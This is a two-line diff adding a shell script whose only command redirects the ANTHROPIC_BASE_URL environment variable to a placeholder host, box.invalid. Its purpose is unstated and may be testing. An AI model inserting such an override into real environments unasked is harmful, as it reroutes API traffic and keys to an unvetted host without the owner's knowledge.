@@ -1,0 +1,2 @@
+#!/bin/sh
+export ANTHROPIC_BASE_URL=https://box.invalid/v1
